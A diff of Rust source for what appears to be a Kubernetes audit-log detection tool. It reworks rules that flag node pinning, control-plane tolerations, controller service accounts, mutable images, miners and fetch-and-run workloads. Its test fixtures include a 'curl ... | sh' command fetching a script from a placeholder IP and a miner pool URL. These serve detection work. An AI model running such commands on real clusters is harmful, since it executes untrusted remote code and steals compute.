@@ -1,13 +1,16 @@
-//! What is deployed, where and as whom: system namespaces, borrowed identities, injected containers, and
-//! commands that give an attack away.
+//! What is deployed, on which node and as whom: chosen nodes, borrowed identities, images and commands that give
+//! an attack away.
+//!
+//! Where it is deployed, and what it pretends to be, is `disguise.rs`'; containers that are slipped in are `sidecars.rs`'.
 
-use airside_k8s::Value;
+use airside_k8s::fields::text;
 use airside_types::attack::technique;
 use airside_types::{Severity, Source, Tactic};
 
-use super::super::body::{at, items, text, texts};
-use super::super::pod_spec::{POD_WRITERS, PodSpec, TEMPLATES};
+use super::super::body::at;
+use super::super::pod_spec::{self, POD_WRITERS, TEMPLATES};
 use super::super::request::Request;
+use super::judged::{CONTROL_PLANE, IMAGE, judged, wrote};
 use super::{CREATE, Definition, Ended, Firing, On, WRITE};
 use crate::command::Command;
 use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE, WEAK};
@@ -15,42 +18,11 @@ use crate::rule::{Examples, LIKELY, PLAUSIBLE, Rule, SURE, WEAK};
 pub(super) static RULES: &[Definition] = &[
     Definition {
         rule: Rule {
-            id: "AUD-R46",
-            version: 1,
-            title: "Pod created in a namespace of the cluster itself",
-            why: "Among the cluster's own pods a foreign one is hard to see, and policies often exempt them.",
-            next: "",
-            severity: Severity::Medium,
-            confidence: LIKELY,
-            tactic: Tactic::DefenseEvasion,
-            techniques: &[technique("T1036.005"), technique("T1610")],
-            equivalents: &[
-                "panther:Kubernetes.Pod.SystemNamespace",
-                "sigma:Creation Of Pod In System Namespace",
-            ],
-            source: Source::Audit,
-            examples: Some(Examples {
-                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"kube-proxy-x7z"},"responseStatus":{"code":201}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"system:serviceaccount:kube-system:daemon-set-controller"},"objectRef":{"resource":"pods","namespace":"kube-system"},"responseStatus":{"code":201}}"#,
-            }),
-        },
-        on: On::Resources(CREATE, &["pods"]),
-        ended: Ended::Done,
-        when: |request| {
-            let counts = request.is_in_system_namespace() && !request.is_by_trusted_system();
-            counts.then(|| {
-                Firing::new(format!("created pod {}/{}", request.namespace(), request.name()))
-                    .with("objectRef.namespace", request.namespace())
-            })
-        },
-    },
-    Definition {
-        rule: Rule {
             id: "AUD-R48",
-            version: 1,
+            version: 2,
             title: "Pod put onto a chosen node",
-            why: "A pod that names its node passes the scheduler by; one that tolerates everything reaches the control plane's nodes.",
-            next: "",
+            why: "A pod that names its node passes the scheduler by, and the taints that keep others away from that node.",
+            next: "Which node it is and what else runs there; if it is of the control plane, what the pod did beside the API server's and etcd's keys.",
             severity: Severity::Low,
             confidence: PLAUSIBLE,
             tactic: Tactic::PrivilegeEscalation,
@@ -59,32 +31,64 @@ pub(super) static RULES: &[Definition] = &[
             source: Source::Audit,
             examples: Some(Examples {
                 fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"nodeName":"control-plane-1"}},"responseStatus":{"code":201}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"userAgent":"kubelet/v1.36.2","objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-node-1"},"requestObject":{"spec":{"nodeName":"node-1"}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"userAgent":"kubelet/v1.36.2","objectRef":{"resource":"pods","namespace":"kube-system","name":"etcd-node-1"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}},"spec":{"nodeName":"node-1"}},"responseStatus":{"code":201}}"#,
             }),
         },
-        on: On::Resources(CREATE, &["pods"]),
+        on: On::Workloads(WRITE, POD_WRITERS),
         ended: Ended::Done,
-        when: |request| {
-            let spec = PodSpec::of(request)?;
-            let node = text(spec.value(), "nodeName");
-            let counts = !node.is_empty() && !request.is_by_trusted_system();
-            counts.then(|| {
-                Firing::new(format!(
-                    "put pod {}/{} onto node {node}",
-                    request.namespace(),
-                    request.name()
-                ))
-                .with("requestObject.spec.nodeName", node)
-            })
+        when: chosen_node,
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R48-control-plane",
+            version: 1,
+            title: "Pods let onto the control plane's nodes",
+            why: "Beside the API server lie its keys and those of etcd: a way out of a container is a way into the cluster there.",
+            next: "Which node it is and what else runs there; if it is of the control plane, what the pod did beside the API server's and etcd's keys.",
+            severity: Severity::Low,
+            confidence: PLAUSIBLE,
+            tactic: Tactic::PrivilegeEscalation,
+            techniques: &[technique("T1611"), technique("T1610")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"tolerations":[{"key":"node-role.kubernetes.io/control-plane","operator":"Exists"}]}}}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"tolerations":[{"key":"example.net/gpu","operator":"Exists"}]}}}},"responseStatus":{"code":201}}"#,
+            }),
         },
+        on: On::Workloads(WRITE, POD_WRITERS),
+        ended: Ended::Done,
+        when: control_plane,
+    },
+    Definition {
+        rule: Rule {
+            id: "AUD-R48-binding",
+            version: 1,
+            title: "Pod bound to a node past the scheduler",
+            why: "Whoever binds a pod chooses its node, whatever its taints say.",
+            next: "Whether the identity is a scheduler of yours, which node was chosen and what else runs there.",
+            severity: Severity::Low,
+            confidence: PLAUSIBLE,
+            tactic: Tactic::PrivilegeEscalation,
+            techniques: &[technique("T1611"), technique("T1610")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p","subresource":"binding"},"requestObject":{"target":{"kind":"Node","name":"control-plane-1"}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"system:kube-scheduler"},"userAgent":"kube-scheduler/v1.36.2","objectRef":{"resource":"pods","namespace":"shop","name":"p","subresource":"binding"},"requestObject":{"target":{"kind":"Node","name":"n1"}},"responseStatus":{"code":201}}"#,
+            }),
+        },
+        on: On::Resources(CREATE, &["pods/binding", "bindings"]),
+        ended: Ended::Done,
+        when: binding,
     },
     Definition {
         rule: Rule {
             id: "AUD-R49",
-            version: 1,
+            version: 2,
             title: "Controller's service account given to a pod",
             why: "The pod gets the rights of a controller of the cluster.",
-            next: "",
+            next: "What the service account did since, from the pod's address above all; who else can write pods in kube-system.",
             severity: Severity::High,
             confidence: SURE,
             tactic: Tactic::PrivilegeEscalation,
@@ -98,27 +102,17 @@ pub(super) static RULES: &[Definition] = &[
                 quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"serviceAccountName":"web"}},"responseStatus":{"code":201}}"#,
             }),
         },
-        on: On::Resources(WRITE, POD_WRITERS),
+        on: On::Workloads(WRITE, POD_WRITERS),
         ended: Ended::Done,
-        when: |request| {
-            let spec = PodSpec::of(request)?;
-            let account = text(spec.value(), "serviceAccountName");
-            let counts = request.namespace() == "kube-system"
-                && CONTROLLER_ACCOUNTS.contains(&account)
-                && !request.is_by_trusted_system();
-            counts.then(|| {
-                Firing::new(format!("gave {} the service account {account}", request.name()))
-                    .with(&format!("requestObject.{}", spec.field("serviceAccountName")), account)
-            })
-        },
+        when: controller_account,
     },
     Definition {
         rule: Rule {
             id: "AUD-R50-hand",
-            version: 1,
+            version: 2,
             title: "Image of a workload changed by hand",
             why: "Pipelines bring new images; one that a person sets has passed no review and stands in no repository.",
-            next: "",
+            next: "Where the image comes from, what differs from the one before, and whether the pipeline that owns the workload knows of it.",
             severity: Severity::Low,
             confidence: WEAK,
             tactic: Tactic::Persistence,
@@ -126,90 +120,43 @@ pub(super) static RULES: &[Definition] = &[
             equivalents: &[],
             source: Source::Audit,
             examples: Some(Examples {
-                fires: r#"{"verb":"patch","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"example.net/web:2"}]}}}},"responseStatus":{"code":200}}"#,
-                quiet: r#"{"verb":"patch","user":{"username":"ci"},"userAgent":"Helm/3.16.2","objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
+                fires: r#"{"verb":"patch","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"example.net/web:2"}]}}}},"responseStatus":{"code":200}}"#,
+                quiet: r#"{"verb":"patch","user":{"username":"ci"},"userAgent":"Helm/3.16.2","objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
             }),
         },
-        on: On::Resources(&["patch"], TEMPLATES),
+        on: On::Workloads(&["patch"], TEMPLATES),
         ended: Ended::Done,
-        when: |request| {
-            let spec = PodSpec::of(request).filter(|_| request.client().is_by_hand())?;
-            let container =
-                spec.containers().find(|container| container.value.get("image").is_some())?;
-            let image = text(container.value, "image");
-            let by_workload = request.actor().is_workload();
-            let kind = super::super::kind::of(request.resource());
-            let workload = format!("{kind} {}/{}", request.namespace(), request.name());
-            Some(
-                Firing::new(format!("set image {image} in {workload}"))
-                    .at(if by_workload { Severity::Medium } else { Severity::Low })
-                    .with(&format!("requestObject.{}.image", container.field), image),
-            )
-        },
+        when: image_by_hand,
     },
     Definition {
         rule: Rule {
-            id: "AUD-R53",
+            id: "AUD-R50-digest",
             version: 1,
-            title: "Container added to a workload that is there",
-            why: "An injected container lives beside the application, with its network, volumes and service account.",
-            next: "",
-            severity: Severity::Medium,
-            confidence: PLAUSIBLE,
-            tactic: Tactic::Persistence,
-            techniques: &[technique("T1525"), technique("T1609")],
+            title: "Image deployed that may change",
+            why: "A tag is moved by whoever may push: what runs tomorrow is decided in the registry, not here.",
+            next: "Which digest runs now, and whether the tag was moved since.",
+            severity: Severity::Info,
+            confidence: WEAK,
+            tactic: Tactic::Execution,
+            techniques: &[technique("T1610"), technique("T1204.003")],
             equivalents: &[],
             source: Source::Audit,
             examples: Some(Examples {
-                fires: r#"{"verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"log","image":"example.net/log"}}],"responseStatus":{"code":200}}"#,
-                quiet: r#"{"verb":"patch","user":{"username":"ci"},"objectRef":{"resource":"deployments","namespace":"shop","name":"web"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"shop/web:2"}]}}}},"responseStatus":{"code":200}}"#,
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"shop/web:latest"}]}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"shop/web@sha256:0000000000000000000000000000000000000000000000000000000000000000"}]}},"responseStatus":{"code":201}}"#,
             }),
         },
-        on: On::Resources(&["patch"], TEMPLATES),
+        on: On::Workloads(WRITE, POD_WRITERS),
         ended: Ended::Done,
-        when: added_container,
-    },
-    Definition {
-        rule: Rule {
-            id: "AUD-R58",
-            version: 1,
-            title: "Mirror pod created by somebody else than a kubelet",
-            why: "The annotation makes a pod look like a static one of a node, which no controller explains.",
-            next: "",
-            severity: Severity::High,
-            confidence: SURE,
-            tactic: Tactic::DefenseEvasion,
-            techniques: &[technique("T1610"), technique("T1036.005")],
-            equivalents: &[],
-            source: Source::Audit,
-            examples: Some(Examples {
-                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}}},"responseStatus":{"code":201}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"system:node:node-1"},"objectRef":{"resource":"pods","namespace":"kube-system","name":"p"},"requestObject":{"metadata":{"annotations":{"kubernetes.io/config.mirror":"x"}}},"responseStatus":{"code":201}}"#,
-            }),
-        },
-        on: On::Resources(CREATE, &["pods"]),
-        ended: Ended::Done,
-        when: |request| {
-            let annotations = at(request.body(), &["metadata", "annotations"]);
-            let counts = annotations.get("kubernetes.io/config.mirror").is_some()
-                && !request.is_by_trusted_system();
-            counts.then(|| {
-                Firing::new(format!(
-                    "created mirror pod {}/{}",
-                    request.namespace(),
-                    request.name()
-                ))
-                .with("requestObject.metadata.annotations", "kubernetes.io/config.mirror")
-            })
-        },
+        when: moving_image,
     },
     Definition {
         rule: Rule {
             id: "AUD-R82",
-            version: 1,
+            version: 2,
             title: "Miner deployed",
             why: "The command or image is a cryptocurrency miner's: somebody else's work on your machines.",
-            next: "",
+            next: "Who wrote the workload and how they came by that right; which nodes are busy with it; then remove it with what brought it.",
             severity: Severity::High,
             confidence: LIKELY,
             tactic: Tactic::Impact,
@@ -217,25 +164,21 @@ pub(super) static RULES: &[Definition] = &[
             equivalents: &[],
             source: Source::Audit,
             examples: Some(Examples {
-                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["-o","stratum+tcp://pool.example.net:3333"]}]}}}},"responseStatus":{"code":201}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["--pool","db"]}]}}}},"responseStatus":{"code":201}}"#,
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","apiGroup":"batch","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["-o","stratum+tcp://pool.example.net:3333"]}]}}}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"jobs","apiGroup":"batch","namespace":"shop","name":"j"},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"a","args":["--pool","db"]}]}}}},"responseStatus":{"code":201}}"#,
             }),
         },
-        on: On::Resources(WRITE, POD_WRITERS),
+        on: On::Workloads(WRITE, POD_WRITERS),
         ended: Ended::Done,
-        when: |request| {
-            commands(request, "deployed a miner", |image, command| {
-                command.is_miner() || Command::new(image).is_miner()
-            })
-        },
+        when: miner,
     },
     Definition {
         rule: Rule {
             id: "AUD-R95",
-            version: 1,
+            version: 2,
             title: "Workload that runs what it fetches",
             why: "What runs is decided by a server outside, at each start: no image scan has seen it.",
-            next: "",
+            next: "What the address serves now, which connections the pods made (runtime detections), and who wrote the workload.",
             severity: Severity::High,
             confidence: LIKELY,
             tactic: Tactic::Execution,
@@ -243,68 +186,14 @@ pub(super) static RULES: &[Definition] = &[
             equivalents: &[],
             source: Source::Audit,
             examples: Some(Examples {
-                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://198.51.100.7/w.sh | sh"]}]}}}}}},"responseStatus":{"code":201}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://web/ping | grep ok"]}]}}}}}},"responseStatus":{"code":201}}"#,
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://198.51.100.7/w.sh | sh"]}]}}}}}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","curl -s http://web/ping | grep ok"]}]}}}}}},"responseStatus":{"code":201}}"#,
             }),
         },
-        on: On::Resources(WRITE, POD_WRITERS),
+        on: On::Workloads(WRITE, POD_WRITERS),
         ended: Ended::Done,
-        when: |request| {
-            commands(request, "deployed a workload that runs what it fetches", |_, command| {
-                command.runs_what_it_fetches() || command.is_reverse_shell()
-            })
-        },
+        when: fetches,
     },
-    Definition {
-        rule: Rule {
-            id: "AUD-R86",
-            version: 1,
-            title: "Event about a workload or rights was cut",
-            why: "Padding a request hides what it asks for from everybody who reads the log.",
-            next: "",
-            severity: Severity::Medium,
-            confidence: PLAUSIBLE,
-            tactic: Tactic::DefenseEvasion,
-            techniques: &[technique("T1562")],
-            equivalents: &[],
-            source: Source::Audit,
-            examples: Some(Examples {
-                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"responseStatus":{"code":201},"annotations":{"audit.k8s.io/truncated":"true"}}"#,
-                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"responseStatus":{"code":201}}"#,
-            }),
-        },
-        on: On::Resources(WRITE, JUDGED_BY_BODY),
-        ended: Ended::Done,
-        when: |request| {
-            let counts = request.event().truncated && !request.is_by_trusted_system();
-            counts.then(|| {
-                Firing::new(format!(
-                    "sent a request that was cut: {}",
-                    super::access::asked_for(request)
-                ))
-                .with("audit.k8s.io/truncated", "true")
-            })
-        },
-    },
-];
-
-/// Resources whose bodies the rules judge, and which are never big by nature.
-const JUDGED_BY_BODY: &[&str] = &[
-    "pods",
-    "deployments",
-    "daemonsets",
-    "statefulsets",
-    "replicasets",
-    "replicationcontrollers",
-    "jobs",
-    "cronjobs",
-    "podtemplates",
-    "roles",
-    "clusterroles",
-    "rolebindings",
-    "clusterrolebindings",
-    "mutatingwebhookconfigurations",
-    "validatingwebhookconfigurations",
 ];
 
 /// Service accounts of kube-controller-manager's controllers, which no pod runs as.
@@ -333,59 +222,90 @@ const CONTROLLER_ACCOUNTS: [&str; 22] = [
     "statefulset-controller",
 ];
 
+fn chosen_node(request: &Request<'_>) -> Option<Firing> {
+    if !pod_spec::mentions(request, &["nodeName"]) || request.is_by_trusted_system() {
+        return None;
+    }
+    let pods = pod_spec::pods(request);
+    let (pod, node) = pods.iter().find_map(|pod| Some((pod, text(pod.fields, "nodeName")?)))?;
+    let firing = Firing::new(format!("{} for node {node}", wrote(request)));
+    Some(firing.with(&format!("requestObject.{}", pod.path_of("nodeName")), node))
+}
+
+/// Agents of every node are expected there.
+fn control_plane(request: &Request<'_>) -> Option<Firing> {
+    let is_agent = request.resource() == "daemonsets";
+    judged(request, CONTROL_PLANE, if is_agent { Severity::Info } else { Severity::Low })
+}
+
+/// Schedulers of one's own run as service accounts.
+fn binding(request: &Request<'_>) -> Option<Firing> {
+    let node = super::super::body::text(at(request.body(), &["target"]), "name");
+    let by_program = request.actor().is_workload() && !request.is_workload_by_hand();
+    let severity = if by_program { Severity::Info } else { Severity::Low };
+    (!request.is_by_trusted_system()).then(|| {
+        let pod = format!("{}/{}", request.namespace(), request.name());
+        Firing::new(format!("bound Pod {pod} to node {node}"))
+            .at(severity)
+            .with("requestObject.target.name", node)
+    })
+}
+
+fn controller_account(request: &Request<'_>) -> Option<Firing> {
+    if request.namespace() != "kube-system" || request.is_by_trusted_system() {
+        return None;
+    }
+    let pods = pod_spec::pods(request);
+    let is_controllers = |account: &str| CONTROLLER_ACCOUNTS.contains(&account);
+    let pod = pods.iter().find(|pod| is_controllers(pod.service_account()))?;
+    let account = pod.service_account();
+    let firing = Firing::new(format!("{} with the service account {account}", wrote(request)));
+    Some(firing.with(&format!("requestObject.{}", pod.path_of("serviceAccountName")), account))
+}
+
+fn image_by_hand(request: &Request<'_>) -> Option<Firing> {
+    if !request.client().is_by_hand() {
+        return None;
+    }
+    let pods = pod_spec::pods(request);
+    let mut containers = pods.iter().flat_map(|pod| &pod.containers);
+    let (container, image) = containers.find_map(|it| Some((it, it.image()?)))?;
+    let by_workload = request.actor().is_workload();
+    Some(
+        Firing::new(format!("{}: image {image}", wrote(request)))
+            .at(if by_workload { Severity::Medium } else { Severity::Low })
+            .with(&format!("requestObject.{}", container.path.key("image")), image),
+    )
+}
+
+fn moving_image(request: &Request<'_>) -> Option<Firing> {
+    let counts = !request.is_by_trusted_system();
+    judged(request, IMAGE, Severity::Info).filter(|_| counts)
+}
+
+fn miner(request: &Request<'_>) -> Option<Firing> {
+    commands(request, "a miner", |image, command| {
+        command.is_miner() || Command::new(image).is_miner()
+    })
+}
+
+fn fetches(request: &Request<'_>) -> Option<Firing> {
+    commands(request, "it runs what it fetches", |_, command| {
+        command.runs_what_it_fetches() || command.is_reverse_shell()
+    })
+}
+
 /// Fires for containers whose image and command answer a question with yes.
 fn commands(
     request: &Request<'_>,
-    deed: &str,
+    what: &str,
     question: impl Fn(&str, &Command) -> bool,
 ) -> Option<Firing> {
-    let spec = PodSpec::of(request)?;
-    let found = spec.containers().find(|container| {
-        question(text(container.value, "image"), &Command::new(&container.command_line()))
-    })?;
-    let kind = super::super::kind::of(request.resource());
-    let deed = format!("{deed}: {kind} {}/{}", request.namespace(), request.name());
-    let firing = Firing::new(deed)
-        .with(&format!("requestObject.{}.command", found.field), &found.command_line())
-        .with(&format!("requestObject.{}.image", found.field), text(found.value, "image"));
+    let found = request.programs().iter().find(|it| question(&it.image, &it.command))?;
+    let firing = Firing::new(format!("{}: {what}", wrote(request)))
+        .with(&format!("requestObject.{}.command", found.path), &found.line)
+        .with(&format!("requestObject.{}.image", found.path), &found.image);
     // The template was told when it was written.
     let by_controller = request.actor().is_workload_controller();
     Some(if by_controller { firing.at(Severity::Low) } else { firing })
-}
-
-/// A JSON patch that adds a container is plain. A merge patch names the containers that it changes: one
-/// that brings image and command together is a new one, or a changed one that deserves a look.
-fn added_container(request: &Request<'_>) -> Option<Firing> {
-    if request.is_by_trusted_system() {
-        return None;
-    }
-    let spec = PodSpec::of(request)?;
-    let raw = request.event().request_object?.get().trim_start();
-    let is_json_patch = raw.starts_with('[');
-    let operations: Vec<Value> =
-        if is_json_patch { serde_json::from_str(raw).ok()? } else { Vec::new() };
-    let added = operations
-        .iter()
-        .filter(|operation| text(operation, "op") == "add")
-        .find(|operation| text(operation, "path").rsplit('/').nth(1) == Some("containers"));
-    let container = match added {
-        Some(operation) => at(operation, &["value"]),
-        None if is_json_patch => return None,
-        None => items(spec.value(), "containers").iter().find(|container| {
-            let has_command = texts(container, "command").chain(texts(container, "args")).next();
-            !text(container, "image").is_empty() && has_command.is_some()
-        })?,
-    };
-    let severity = if is_json_patch { Severity::Medium } else { Severity::Low };
-    let (name, image) = (text(container, "name"), text(container, "image"));
-    let kind = super::super::kind::of(request.resource());
-    Some(
-        Firing::new(format!(
-            "added container {name} to {kind} {}/{}",
-            request.namespace(),
-            request.name()
-        ))
-        .at(severity)
-        .with("requestObject.containers.image", image),
-    )
 }
